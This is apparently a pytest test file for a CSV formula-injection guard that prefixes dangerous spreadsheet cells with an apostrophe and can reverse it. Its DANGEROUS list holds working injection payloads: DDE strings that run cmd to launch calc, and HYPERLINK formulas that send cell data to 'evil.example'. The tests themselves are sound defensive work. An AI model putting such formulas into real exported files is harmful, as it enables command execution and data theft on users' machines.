"""The CSV formula guard (OWASP CSV injection) on payloads that attack spreadsheets, and on
harmless cells it must leave alone; and the documented way back to the original text."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from matcher.io.csv_safety import (
    FORMULA_PREFIXES,
    neutralise_cell,
    neutralise_frame,
    plain_cell,
    unguard_cell,
    write_safe_csv,
)

#: Cells a spreadsheet program would evaluate: classic injection, DDE and prefix tricks.
DANGEROUS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1, "Click")',
    '=DDE("cmd";"/C calc";"!A0")',
    "@SUM(1)",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=2+5-jamal-carter",
    "+1 555-0101",
    "-0.5",
    # a program that trims the cell reads a formula
    " =1+1 is how a formula starts",
    "  @SUM(1)",
    '\n =HYPERLINK("http://evil.example/x","click")',
]

#: Cells that must pass unchanged.
HARMLESS = [
    "Maria Lopez",
    "maria.lopez@example.com",
    "(555) 010-1234",
    "555-0101",
    "r-17",
    "J1",
    "Data engineer (m/f/d)",
    "C++, C#, .NET",
    "1+1",
    "a=b",
    "",
    "São Paulo",
    " 'not the guard",
]


@pytest.mark.parametrize("payload", DANGEROUS)
def test_a_dangerous_cell_is_guarded_and_the_guard_can_be_undone(payload: str) -> None:
    guarded = neutralise_cell(payload)
    assert guarded == "'" + payload
    assert not guarded.startswith(FORMULA_PREFIXES)
    assert unguard_cell(guarded) == payload


@pytest.mark.parametrize("cell", HARMLESS)
def test_a_harmless_cell_is_left_alone(cell: str) -> None:
    assert neutralise_cell(cell) == cell
    assert unguard_cell(neutralise_cell(cell)) == cell


def test_a_cell_that_starts_with_the_guard_gets_one_more_so_the_rule_stays_reversible() -> None:
    for cell in ("'+1 555-0101", "'quoted", "'"):
        assert neutralise_cell(cell) == "'" + cell
        assert unguard_cell(neutralise_cell(cell)) == cell


def test_a_guarded_id_joins_back_to_its_input_after_unguarding(tmp_path: Path) -> None:
    ids = [*DANGEROUS, *HARMLESS, "'already quoted"]
    path = tmp_path / "shortlists.csv"
    write_safe_csv(pd.DataFrame({"resume_id": ids, "rank": range(len(ids))}), path)
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert all(not row["resume_id"].startswith(FORMULA_PREFIXES) for row in rows)
    # The README's rule: remove one leading ' from a cell that has one.
    assert [unguard_cell(row["resume_id"]) for row in rows] == [plain_cell(i) for i in ids]


@pytest.mark.parametrize("dtype", ["str", "object"])
def test_a_column_of_text_is_neutralised_as_cell_by_cell(dtype: str) -> None:
    """A column of strings is searched in one pass for the cells to change: the result is
    each cell made plain and neutralised, as one at a time, for every control character,
    every formula prefix and the guard, at the start of a cell and inside it."""
    rng = np.random.default_rng(11)
    marks = [chr(code) for code in range(0x20)] + ["\x7f", "=", "+", "-", "@", "'", "a", "é"]
    marks += [" ", "\u00a0"]
    cells: list[str | None] = [*DANGEROUS, *HARMLESS, "'already quoted", None]
    for _ in range(3000):
        cells.append("".join(rng.choice(marks, size=int(rng.integers(0, 6)))))
    frame = pd.DataFrame({"cell": pd.Series(cells, dtype=dtype)})
    safe = neutralise_frame(frame)["cell"]
    expected = [neutralise_cell(plain_cell(c)) if isinstance(c, str) else c for c in cells]
    assert [None if pd.isna(v) else v for v in safe.tolist()] == [
        None if c is None else c for c in expected
    ]
    assert sum(a != b for a, b in zip(safe.tolist()[:-3000], cells[:-3000], strict=True)) > 10
